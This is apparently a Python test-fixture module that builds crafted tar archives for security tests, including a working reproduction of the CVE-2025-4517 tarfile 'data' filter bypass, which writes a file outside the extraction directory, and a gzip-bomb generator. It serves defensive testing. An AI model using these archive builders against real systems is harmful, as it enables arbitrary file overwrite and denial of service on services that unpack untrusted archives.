"""Crafted archives for the security tests, built byte by byte with ``tarfile``."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

__all__ = ["add_dir", "add_file", "add_link", "cve_2025_4517", "gzip_bomb", "write_tar"]


def add_file(tar: tarfile.TarFile, name: str, data: bytes = b"x", mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = mode
    tar.addfile(info, io.BytesIO(data))


def add_dir(tar: tarfile.TarFile, name: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o777
    tar.addfile(info)


def add_link(tar: tarfile.TarFile, name: str, target: str, *, hard: bool = False) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
    info.linkname = target
    tar.addfile(info)


def write_tar(path: Path, mode: str = "w:gz") -> tarfile.TarFile:
    return tarfile.open(path, mode, format=tarfile.PAX_FORMAT)  # type: ignore[call-overload,no-any-return]


def cve_2025_4517(archive: Path, outside: Path, dest: Path) -> None:
    """The published shape of the ``filter="data"`` bypass: nested folders of long names and
    a chain of symbolic links whose resolved path exceeds ``PATH_MAX``, so ``os.path.realpath``
    stops resolving and the filter's inside-the-destination check passes; a last link then
    points outside and a file is written through it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    path = ""
    with write_tar(archive, "w") as tar:
        for step in steps:
            add_dir(tar, os.path.join(path, comp))
            add_link(tar, os.path.join(path, step), comp)
            path = os.path.join(path, comp)
        linkpath = os.path.join("/".join(steps), "l" * 254)
        add_link(tar, linkpath, "../" * len(steps))
        climb = "../" * (len(dest.resolve().parts) + 1)
        add_link(tar, "escape", f"{linkpath}/{climb}{str(outside.resolve()).lstrip('/')}")
        add_file(tar, "escape/pwned", b"written outside")


def gzip_bomb(archive: Path, size: int, members: int = 1) -> None:
    """A small ``.tar.gz`` of ``members`` files of ``size`` zero bytes each."""
    with write_tar(archive) as tar:
        for index in range(members):
            info = tarfile.TarInfo(f"zeros-{index}.bin")
            info.size = size
            tar.addfile(info, _Zeros(size))


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n
